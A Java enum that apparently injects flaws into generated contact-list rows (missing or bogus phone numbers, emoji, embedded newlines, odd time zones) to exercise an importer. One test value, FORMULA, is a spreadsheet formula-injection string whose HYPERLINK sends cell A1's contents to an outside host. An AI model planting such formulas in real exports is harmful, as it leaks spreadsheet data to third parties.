package org.ecm.demo.contacts;

import java.util.List;
import java.util.Map;
import java.util.Random;

/** What is wrong or awkward with some rows of a list. */
public enum Blemish {
  /** No phone at all: to be rejected. */
  NO_PHONE(15) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      PHONES.forEach(phone -> row.put(phone, ""));
    }
  },
  /** Nothing that could be called: to be rejected. */
  ONLY_BAD_PHONES(20) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      PHONES.forEach(phone -> row.put(phone, ""));
      row.put(Column.PHONE_1, Country.one(BAD_NUMBERS, random));
    }
  },
  /** The first phone cannot be called, the second can. */
  BAD_FIRST_PHONE(20) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.PHONE_2, row.get(Column.PHONE_1));
      row.put(Column.PHONE_1, Country.one(BAD_NUMBERS, random));
    }
  },
  /** The first phone's column is empty. */
  NO_FIRST_PHONE(10) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.PHONE_2, row.get(Column.PHONE_1));
      row.put(Column.PHONE_1, "");
    }
  },
  EMOJI(10) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.merge(Column.FIRST_NAME, " 🎉👩‍👩‍👧", String::concat);
    }
  },
  /** Quotes, delimiters and a line end inside a field. */
  NEWLINE(20) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.NOTE, "Call \"after five\";\nnever on Sundays, please");
    }
  },
  /** What a spreadsheet would run. */
  FORMULA(3) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.NOTE, "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")");
    }
  },
  LONG_NAME(2) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.LAST_NAME, "Wolfeschlegelsteinhausenbergerdorff".repeat(5));
    }
  },
  UNKNOWN_ZONE(2) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.TIME_ZONE, "Mars/Olympus");
    }
  },
  PRIORITY_IN_WORDS(2) {
    @Override
    void spoil(Map<Column, String> row, Random random) {
      row.put(Column.PRIORITY, "very high");
    }
  };

  static final List<Column> PHONES = List.of(Column.PHONE_1, Column.PHONE_2, Column.PHONE_3);
  private static final List<String> BAD_NUMBERS =
      List.of(
          "n/a",
          "-",
          "000",
          "12345",
          "+1 000 555 0100",
          "4.42079E+11",
          "call reception",
          "#REF!",
          "+999 123 456 789 012 345 678",
          "jane@example.com");

  private final int perMille;

  Blemish(int perMille) {
    this.perMille = perMille;
  }

  abstract void spoil(Map<Column, String> row, Random random);

  /** The blemish of the next row, or null. */
  static Blemish next(Random random) {
    int left = random.nextInt(1000);
    for (Blemish blemish : values()) {
      left -= blemish.perMille;
      if (left < 0) {
        return blemish;
      }
    }
    return null;
  }
}
